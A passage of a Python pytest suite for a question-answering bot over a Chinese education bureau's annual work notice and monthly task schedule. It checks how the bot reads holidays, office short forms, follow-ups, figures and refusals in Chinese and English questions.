    """这条对应配档表里哪些任务 names the table but points back: the item's rows, not the whole table."""
    a = bot.ask("这条对应配档表里哪些任务", ["第十六条讲什么"])
    rows = cited_rows(bot, a)
    assert rows and set(rows) <= set(bot.corpus.rows_of_items({r.id for r in bot.corpus.find_items((16,))}))


@pytest.mark.parametrize("question,figure", [
    ("What proportion of preschoolers should be in public kindergartens?", "61%"),
    ("What percentage of kindergarten children should attend high-quality kindergartens?", "85%"),
    ("What share of children should be in quality kindergartens?", "85%"),
])
def test_an_english_figure_question_quotes_the_sentence_nearest_in_meaning(bot, question, figure):
    # Not the first retrieved sentence that holds a digit (item 17's "2+N" had answered all three).
    a = bot.ask(question)
    assert a.found and items(a) == [8] and figure in a.answer


# --- school holidays and office short forms in questions ----------------------------------------------

@pytest.mark.parametrize("question,months", [
    ("暑假期间教师处有啥事", {7, 8}), ("寒假里基教处忙啥", {1, 2}), ("What does 教师处 do over the summer holidays?", {7, 8}),
])
def test_a_school_holiday_names_its_months(bot, question, months):
    """暑假 / 寒假 said as a time are the months the notices' own time cells read them as (7–8月,
    1–2月): the office's rows of those months, not its whole year."""
    a = bot.ask(question)
    office = bot.offices.find_all(question)[0]
    want = [r for r in bot.filter_rows(tuple(sorted(months)), (office,))]
    assert a.found and want and {r[0] for r in rows(a)} == {r.month for r in want}


@pytest.mark.parametrize("question,months", [("暑假中有哪些工作", {7, 8}), ("哪些工作安排在暑假", {7, 8}),
                                             ("放寒假期间有什么安排", {1, 2})])
def test_a_holiday_asked_about_at_the_end_or_with_fang_is_a_period(bot, question, months):
    a = bot.ask(question)
    assert a.found and rows(a) and {m for m, _ in rows(a)} <= months


@pytest.mark.parametrize("question", ["暑期托管有什么要求", "寒假作业有规定吗", "暑期中小学生防溺水有什么安排",
                                      "什么时候放暑假?", "暑假什么时候开始"])
def test_a_school_holiday_naming_a_topic_lists_no_months_rows(bot, question):
    a = bot.ask(question)
    assert not rows(a)


def test_the_months_of_two_holidays_are_labelled_as_two_runs():
    from bot.understand import parse_months

    assert parse_months("寒暑假有哪些工作") == ((1, 2, 7, 8), "寒暑假(1–2月、7–8月)")


@pytest.mark.parametrize("text,typed,office", [("基教科目前有什么工作", "基教科", "基教处"), ("体艺处分管哪些工作", "体艺处", "体卫艺处"),
                                              ("民办处在5月有什么工作", "民办处", "民继处"), ("组织科今年有哪些工作", "组织科", "组织人事处"),
                                              ("基教科室今年有哪些工作", "基教科", "基教处")])
def test_an_office_short_form_before_a_word_of_its_own_is_still_read(bot, text, typed, office):
    """基教科|目前, 体艺处|分管, 民办处|在: the unit ends the name; 组织科 is a word and a unit's name."""
    from bot.understand import office_forms

    c = bot.corpus
    assert office_forms(text, c.offices, c.text, c.tokenizer.known)[1] == ((typed, office),)


@pytest.mark.parametrize("typed,office", [("基教科", "基教处"), ("民办处", "民继处"), ("体艺处", "体卫艺处")])
def test_an_office_shortened_or_re_suffixed_is_read_as_that_office(bot, typed, office):
    """A name the office table does not list, whose characters come in order in one office's
    spelling with the same kind of ending (处/科/室): 民办处 is 民办教育处, a district's 基教科 the city's
    基教处. The answer says how it was read."""
    a = bot.ask(f"{typed}今年有哪些工作")
    assert a.found and rows(a) and all(office in offices for _, offices in rows(a))
    assert f"按“{office}”理解" in a.answer


@pytest.mark.parametrize("text", ["教研室有什么任务", "坐办公室的人", "招生处6月干啥", "学校科技节什么时候办",
                                  "学校处理校园欺凌", "学校室外体育活动", "初中体育科目考试什么时候", "教师科研能力提升",
                                  "组织科普活动", "骨干教师工作室", "教导处"])
def test_a_unit_name_matching_no_office_or_several_is_left_as_typed(bot, text):
    """Not a word that merely ends in 处 / 科 / 室 (处理, 科技, 科目, 室外, 工作室), nor a unit of another
    kind (教导处 is no 督导室)."""
    from bot.understand import office_forms

    c = bot.corpus
    assert office_forms(text, c.offices, c.text, c.tokenizer.known)[1] == ()


@pytest.mark.parametrize("follow_up", ["都有哪些单位参加", "有哪些单位参加"])
def test_who_takes_part_asks_the_offices_of_the_row_just_named(bot, follow_up):
    history = ["科学教育实验区是怎么安排的", "什么时候开协作组会议"]
    first = bot.ask(history[1], history[:1])
    a = bot.ask(follow_up, history)
    assert a.found and rows(a) == rows(first) and all(o in a.answer for o in rows(first)[0][1])


def test_the_last_of_a_counted_list_is_that_row(bot):
    """最后一项是什么 after 市招考院今年有几项工作: the last row listed (it had been refused)."""
    first = bot.ask("市招考院今年有几项工作")
    a = bot.ask("最后一项是什么", ["市招考院今年有几项工作"])
    assert a.found and rows(a) == rows(first)[-1:]


@pytest.mark.parametrize("question,month,words", [
    ("Which office handles the campus food safety campaign in January?", 1, "食品安全"),
    ("What is the 体卫艺处 doing about student physical fitness in November?", 11, "体质健康"),
])
def test_an_english_topic_in_a_period_keeps_the_row_clearly_nearest(bot, question, month, words):
    """English topic words cannot filter Chinese rows by words: the period's row nearest in meaning,
    when clearly nearer than the next (every January row had been listed)."""
    a = bot.ask(question)
    cited = [c for c in a.citations if c.kind == "schedule"]
    assert a.found and len(cited) == 1 and cited[0].month == month and words in cited[0].task


@pytest.mark.parametrize("question,month", [("What is due in June from 基教处?", 6), ("What are the key tasks in June?", 6),
                                            ("What activities are planned for December?", 12),
                                            ("What is the Jinan education bureau doing in October?", 10)])
def test_an_english_question_naming_no_topic_lists_every_row(bot, question, month):
    a = bot.ask(question)
    office = bot.offices.find_all(question)
    assert len(rows(a)) == len(bot.filter_rows((month,), tuple(office)))


@pytest.mark.parametrize("question", ["云六一活动是怎么回事", "云六一活动是啥意思"])
def test_asking_what_a_scheduled_task_is_about_answers_its_row(bot, question):
    """怎么回事 / 啥意思 ask, they name nothing: a task written only in the 配档表 is answered by its row
    (怎么回事 had counted as a word the notice lacks, and an unrelated item was quoted)."""
    a = bot.ask(question)
    assert a.found and [c.task for c in a.citations if c.kind == "schedule"] and \
        all("六一" in c.task for c in a.citations if c.kind == "schedule")


@pytest.mark.parametrize("first,follow_up", [("第二季度有什么工作", "第二个月呢"), ("上半年有什么工作", "最后一个月呢")])
def test_the_nth_month_of_a_period_is_no_nth_row(bot, first, follow_up):
    """第二个月 / 最后一个月 name a month, not the second or last row of the list."""
    a = bot.ask(follow_up, [first])
    assert len(rows(a)) != 1


@pytest.mark.parametrize("question", ["怎么回事", "什么意思"])
def test_a_question_of_question_words_only_asks_for_a_topic(bot, question):
    a = bot.ask(question)
    assert not a.found and not a.citations


def test_an_ordinal_asked_to_be_told_in_detail(bot):
    """具体说说第二个: the second row of the list, told in full (it was refused)."""
    first = "基教处上半年有什么工作"
    a = bot.ask("具体说说第二个", [first])
    second = rows(bot.ask(first))[1]
    assert a.found and a.citations and second[0] and "具体" not in a.answer[:10]


def test_gui_na_ge_chu_guan_asks_who(bot):
    a = bot.ask("归哪个处管", ["校外培训有什么要求"])
    assert a.found and rows(a) and all("民继处" in offices for _, offices in rows(a))


def test_the_bureau_itself_is_no_topic_of_a_schedule_question(bot):
    a = bot.ask("6月局里有啥安排")
    assert a.found and "没有直接提到" not in a.answer and len(rows(a)) == len(bot.filter_rows((6,)))


@pytest.mark.parametrize("question,near", [("学校医务室的大夫水平要提高吗", 6), ("门卫大叔有没有比本事的比赛", 20)])
def test_a_refusal_naming_absent_words_points_to_the_nearest_items(bot, question, near):
    """The notice may say it in its own words (大夫 → 校医, 门卫 → 安保人员): a refusal that names
    the words it lacks also names the items nearest the question, as pointers, not as an answer."""
    a = bot.ask(question)
    assert not a.found and "没有提到" in a.answer and "相关的条目" in a.answer
    assert near in [c.item for c in a.citations]


def test_a_refusal_about_nothing_the_notice_speaks_of_points_nowhere(bot):
    a = bot.ask("今天天气怎么样?")
    assert not a.found and not a.citations


@pytest.mark.parametrize("question", ["如何加强学校安全管理", "学校安全怎么抓"])
def test_an_item_that_is_only_its_heading_does_not_answer(bot, question):
    """第4条 is only 维护教育系统政治安全。 (one clause, no figure): it shares 安全 with the
    question but says nothing of what is done; 第20条 does."""
    a = bot.ask(question)
    assert a.found and items(a)[0] == 20 and 4 not in items(a)


def test_a_heading_only_item_answers_a_question_that_names_it(bot):
    """第4条 is only its heading: no evidence for questions sharing one word (安全), but it is for a
    question naming it."""
    a = bot.ask("教育系统政治安全有什么要求")
    assert a.found and items(a) == [4]


@pytest.mark.parametrize("question", ["股票明天会涨吗", "济南明天天气怎么样", "教育局电话多少"])
def test_a_refusal_names_no_items_for_a_question_about_none_of_the_notices_subjects(bot, question):
    """明天 is 未来 only as a synonym, 济南 a place, 教育局 the issuer: no subject of the notice."""
    a = bot.ask(question)
    assert not a.found and not a.citations


@pytest.mark.parametrize("question", ["普惠园覆盖面今年定的多少", "普惠性幼儿园覆盖面多大"])
def test_a_measure_asked_with_another_ending_is_the_one_the_notice_gives(bot, question):
    """覆盖面 for the notice's 覆盖率 (the same measure of the same thing) had been refused as a word
    the notice does not mention."""
    a = bot.ask(question)
    assert a.found and 8 in items(a) and "95%" in a.answer


# --- words that ask name nothing --------------------------------------------------------------------

@pytest.mark.parametrize("question,item,shown", [
    ("近視防控在哪一條", 6, "近视防控"), ("校园足球在哪一条", 6, "校园足球"),
    ("预防校园欺凌工作办法谁定", 20, "安管处")])
def test_a_word_glued_to_an_interrogative_is_no_subject(bot, question, item, shown):
    """哪一条, 谁定 (jieba keeps them whole) had been the question's rarest word, missing from the
    best item, so the question was refused."""
    a = bot.ask(question)
    assert a.found and item in items(a) and shown in a.answer


def test_how_much_money_asks_the_figure_of_the_item_in_question(bot):
    a = bot.ask("投资多少钱", ["第18条讲的啥"])
    assert a.found and "2.88亿元" in a.answer and "没有提到" not in a.answer


@pytest.mark.parametrize("question,item,figure", [
    ("学前教育的普惠园覆盖率目标是多少", 8, "95%"), ("学前教育里公办园在园幼儿占比要达到多少", 8, "61%"),
    ("教育资源供给方面新增学位是多少", 18, "4万")])
def test_the_thing_counted_may_be_named_by_the_item_s_heading(bot, question, item, figure):
    """The thing asked is read in whole words (学前教育, not 前教育), and its words may be in the
    quoted sentence's item heading (推进学前教育优质普惠发展) rather than in the sentence."""
    a = bot.ask(question)
    assert a.found and items(a) == [item] and figure in a.answer


@pytest.mark.parametrize("turns,item,shown", [
    (["泉悦读是什么", "那个研学活动去哪些地方"], 5, "临夏"),
    (["校外培训机构设置标准什么时候出台", "该项工作有什么要求"], 7, "双减"),
    (["第15条讲的啥", "上面提到的科学家进校园是啥"], 15, "科学家进校园")])
def test_a_follow_up_pointing_back_with_words_of_its_own_asks_within_the_items_just_cited(bot, turns, item, shown):
    """该项工作有什么要求 had been searched over the whole notice."""
    a = bot.ask(turns[-1], turns[:-1])
    assert a.found and items(a) == [item] and shown in a.answer


@pytest.mark.parametrize("turns", [["泉悦读是什么", "这个活动怎么报名"], ["泉悦读是什么", "它的经费是多少"],
                                   ["第5条的经费是多少"]])
def test_what_the_item_pointed_to_does_not_say_is_not_answered_from_it(bot, turns):
    """A follow-up pointing back asks within the item only when the item speaks of what it names,
    and a figure of a named item must be one it gives: 它的经费是多少 had been answered 新建50所."""
    a = bot.ask(turns[-1], turns[:-1])
    assert not a.found


@pytest.mark.parametrize("follow_up", ["这个学期有什么安排", "那个月还有什么"])
def test_a_pointer_that_names_a_time_does_not_ask_within_the_last_items(bot, follow_up):
    a = bot.ask(follow_up, ["泉悦读是什么"])
    assert items(a) != [5] or not a.found


def test_a_word_a_number_binds_is_no_slip(bot):
    """第5条里: 条 + 里 belongs to 第5条, it is no slip of 条例."""
    a = bot.ask("第5条里提到了哪些比赛")
    assert "条例" not in a.answer and items(a) == [5]


@pytest.mark.parametrize("question,item,figure", [
    ("食品安全专项整治要抓住几个关键环节", 20, "两个关键环节"), ("民族宗教工作有几个纳入", 2, "六个纳入")])
def test_a_figure_written_in_chinese_numerals_answers_a_count(bot, question, item, figure):
    """Only sentences holding an Arabic digit had been candidates: 两个关键环节 was refused."""
    a = bot.ask(question)
    assert a.found and items(a) == [item] and figure in a.answer


@pytest.mark.parametrize("question", ["师德师风建设谁负责", "师德师风建设什么时候搞"])
def test_a_row_sharing_only_a_common_word_is_not_the_task_asked(bot, question):
    """jieba cuts 师德师风建设 into 师德师 + 风 + 建设: the three rows that say 建设 had been
    listed. No row names 师德师风建设; 第19条 does."""
    a = bot.ask(question)
    assert not rows(a) and items(a) == [19]


@pytest.mark.parametrize("question,months", [("年底前民继处要完成什么", [7, 11]), ("年底民继处有什么工作", [11])])
def test_a_deadline_at_the_year_s_end_is_every_month_up_to_it(bot, question, months):
    """年底前 is due by the year's end, as 6月底前 is every month up to June; 年底 alone is the
    year's end (11–12月). 年底前 had dropped the 7月 row."""
    a = bot.ask(question)
    assert a.found and sorted(c.month for c in a.citations if c.kind == "schedule") == months


@pytest.mark.parametrize("turns,figure", [(["第18条讲的啥", "其中新增学位多少个"], "4万"),
                                          (["第8条讲的啥", "其中公办园占比多少"], "61%")])
def test_a_word_pointing_back_is_not_the_thing_counted(bot, turns, figure):
    """其中 (jieba tags it a pronoun) had been the missing word of 其中新增学位多少个."""
    a = bot.ask(turns[-1], turns[:-1])
    assert a.found and figure in a.answer


@pytest.mark.parametrize("question", ["全市教育工作会议在哪个会场开", "全市教育工作会议在哪个场馆举行"])
def test_the_place_word_of_a_where_question_is_no_task_word(bot, question):
    """会场 of 在哪个会场开 had been taken as the task's rarest word: no row named it, and the
    answer said no row lists the meeting."""
    a = bot.ask(question)
    assert not a.found and "没有写明地点" in a.answer and [m for m, _ in rows(a)] == [3]


# --- what a reviewer's probes made the rules above misfire on ----------------------------------------

@pytest.mark.parametrize("question,months", [("年底前后有什么工作", {11, 12}), ("年底前两个月督导室有什么工作", {11, 12})])
def test_around_the_year_s_end_is_not_a_deadline_at_it(bot, question, months):
    a = bot.ask(question)
    assert a.found and {c.month for c in a.citations if c.kind == "schedule"} <= months


def test_who_is_responsible_for_drafting_is_a_who_question(bot):
    """负责制定 asks who, as 负责 does; only 负责制 names a system."""
    a = bot.ask("什么单位负责制定寄宿制培训机构管理办法")
    assert a.found and [(m, o) for m, o in rows(a)] == [(11, ("民继处",))]


@pytest.mark.parametrize("question,item", [("工作要点里对双减是怎么写的", 7), ("原文怎么写的近视防控", 6)])
def test_how_the_notice_words_a_topic_is_no_advice(bot, question, item):
    a = bot.ask(question)
    assert a.found and item in items(a)


@pytest.mark.parametrize("question", ["双减要聚焦几个关键环节", "要培育孩子几个自信", "食品安全网格化管理有几个触点",
                                      "新课堂项目有几期", "应急事件处置有几个关键环节"])
def test_a_count_only_a_section_title_or_another_thing_gives_is_not_answered(bot, question):
    """A section's title (聚焦关键环节) speaks of many items and counts nothing of one; 两个关键环节
    counts no 触点; 第一期 is an ordinal."""
    assert not bot.ask(question).found


def test_a_pointer_after_a_list_of_several_items_is_searched_not_quoted_whole(bot):
    a = bot.ask("那个预防校园欺凌办法有什么要求", ["6月有哪些工作"])
    assert a.found and items(a) == [20] and len(a.answer) < 200


def test_a_place_opened_to_the_public_is_no_where_question(bot):
    a = bot.ask("哪个场地开放给社会")
    assert a.found and 6 in items(a)


# --- where a word is written -----------------------------------------------------------------------

def _writing(bot, word):
    c = bot.corpus
    return ({r.item for r in c.items.values() if word in r.text},
            {(r.month, r.offices) for r in c.filter_rows((), ()) if word in r.text})


@pytest.mark.parametrize("question,word", [
    ("哪几条提到了“清单”", "清单"), ("哪些条目提到了大赛", "大赛"), ("列出所有带“工程”的项目", "工程"),
    ("“双减”出现在哪一条", "双减"), ("Which items mention \"双减\"?", "双减"), ("通知里哪里提到了食堂", "食堂"),
])
def test_where_a_word_is_written_lists_every_item_and_row_writing_it(bot, question, word):
    """哪几条提到了“清单” had been answered with the outline, and 列出所有带“工程”的项目 with one item."""
    want_items, want_rows = _writing(bot, word)
    a = bot.ask(question)
    assert a.found and set(items(a)) >= want_items and set(rows(a)) == want_rows
    assert all(word in c.quote for c in a.citations if c.kind == "item" and c.item in want_items)


def test_a_word_written_nowhere_is_said_to_be(bot):
    a = bot.ask("哪几条提到了“泉优计划”")
    assert not a.found and "泉优计划" in a.answer


def test_a_word_asked_of_an_office_s_rows_lists_only_those(bot):
    a = bot.ask("基教处哪些任务提到了“会”")
    want = {(r.month, r.offices) for r in bot.corpus.filter_rows((), ("基教处",)) if "会" in r.text}
    assert a.found and set(rows(a)) == want and len(rows(a)) < len(bot.corpus.filter_rows((), ("基教处",)))



@pytest.mark.parametrize("question,found_word", [
    ("哪一条涉及到食品安全", "食品安全"), ("哪里提到了招生的安排", "招生"),            # the words around it dropped
    ("哪几条提到了学生的身心健康", "学生身心健康"),                                   # as the notice writes it
])
def test_a_word_asked_without_quotes_is_the_notice_s_own(bot, question, found_word):
    """A reviewer's probes: 涉及到食品安全 had been answered 没有提到“到食品安全”."""
    a = bot.ask(question)
    assert a.found and a.query.intent == "mentions" and a.query.mention == found_word


@pytest.mark.parametrize("question", ["哪几条提到了招生和考试", "哪几条提到了教师培训", "which items mention safety",
                                      "哪条提到了校外培训机构的管理"])
def test_a_where_question_the_notice_does_not_write_as_asked_is_searched(bot, question):
    """Not 'the notice does not mention it' (it writes 招生 and 考试, 教师…培训), nor the outline."""
    a = bot.ask(question)
    assert a.found and a.query.intent != "mentions" and "没有提到" not in a.answer and "分 5 个部分" not in a.answer


@pytest.mark.parametrize("question,office,months", [("哪几条提到了基教处", "基教处", ()), ("哪里提到了6月的工作", None, (6,)),
                                                    ("列出所有带“基教处”的项目", "基教处", ())])
def test_an_office_or_a_month_asked_where_is_its_rows(bot, question, office, months):
    a = bot.ask(question)
    want = [(r.month, r.offices) for r in bot.corpus.filter_rows(months, (office,) if office else ())]
    assert a.found and rows(a) == want


def test_what_else_after_every_place_a_word_is_written_is_nothing(bot):
    a = bot.ask("还有吗", ["哪几条提到了“清单”"])
    assert "全部列出" in a.answer and not rows(a)


@pytest.mark.parametrize("question", ["一年中哪个月工作最多", "全年中哪个月工作最多"])
def test_a_year_s_middle_is_only_said_as_a_time(bot, question):
    """年中 had matched inside 一年中 / 今年中职…: the question was cut to June–July."""
    counts = {}
    for r in bot.corpus.filter_rows():
        counts[r.month] = counts.get(r.month, 0) + 1
    most = max(counts, key=counts.get)
    a = bot.ask(question)
    assert a.found and f"**{most}月**" in a.answer and "6–7月" not in a.answer


@pytest.mark.parametrize("follow_up", ["换个问题:它由谁负责", "再问一个,它什么时候完成"])
def test_a_new_topic_opening_that_points_back_keeps_the_conversation(bot, follow_up):
    plain = bot.ask(follow_up.split(",")[-1].split(":")[-1], ["第18条讲什么"])
    a = bot.ask(follow_up, ["第18条讲什么"])
    assert a.found and rows(a) == rows(plain) and rows(a)


@pytest.mark.parametrize("question", ["党建工作中党章学习有什么要求", "教育工作先进个人有没有奖章"])
def test_a_word_ending_in_zhang_names_no_chapter(bot, question):
    assert bot.understand(question).intent != "section"


def test_which_items_an_office_leads_is_no_outline(bot):
    """哪几条是基层卫生健康科牵头的 had been answered with the outline (几条)."""
    a = bot.ask("哪几条是基教处牵头的")
    assert a.found and a.query.intent != "outline" and rows(a) and all("基教处" in o for _, o in rows(a))
